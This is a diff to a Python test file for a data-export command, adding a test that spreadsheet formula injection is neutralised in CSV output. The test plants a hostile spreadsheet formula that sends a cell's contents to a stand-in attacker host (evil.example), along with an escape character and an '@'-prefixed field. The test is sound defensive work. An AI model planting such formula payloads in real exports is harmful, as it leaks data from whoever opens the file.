@@ -12,9 +12,11 @@ from typing import Any
 import pytest
 from msgspec import structs
 from pyarrow import parquet
+from sqlalchemy import text
 
 from api.fakes import HOME
 from cli.world import World
+from joinder.clean import MARK
 from joinder.commands import export_files
 from joinder.energy import Reading
 from joinder.services.readings import poll
@@ -66,6 +68,25 @@ def test_csv_json_lines_and_parquet_say_the_same(world: World, fleet: list[str],
     ]
     table = parquet.read_table(tmp_path / "fleet.parquet").to_pylist()
     assert [{name: value for name, value in row.items() if value is not None} for row in table] == lines
+
+
+def test_a_spreadsheet_takes_no_name_for_a_formula(world: World, fleet: list[str], tmp_path: Path) -> None:
+    """A stranger changes the reference in a join link's query, and the operator opens the file."""
+    hostile = '=HYPERLINK("https://evil.example/?"&A1)\x1b'
+
+    async def name() -> None:
+        async with world.open() as hub, hub.store.write() as session:
+            await session.execute(text("UPDATE enrollment SET reference = :name"), {"name": hostile})
+            await session.execute(text("UPDATE site SET vendor_id = '@' || vendor_id"))
+
+    asyncio.run(name())
+    for suffix in ("csv", "jsonl"):
+        world("export", str(tmp_path / f"fleet.{suffix}"), *SPAN)
+    rows = told(tmp_path / "fleet.csv")
+    assert {row["reference"] for row in rows} == {"'" + hostile.replace("\x1b", MARK)}
+    assert {row["vendorID"][:2] for row in rows} == {"'@"}
+    lines = [json.loads(line) for line in (tmp_path / "fleet.jsonl").read_text().splitlines()]
+    assert {line["reference"] for line in lines} == {hostile}
 
 
 def test_other_levels_are_summed_in_the_sites_own_zone(world: World, fleet: list[str], tmp_path: Path) -> None:
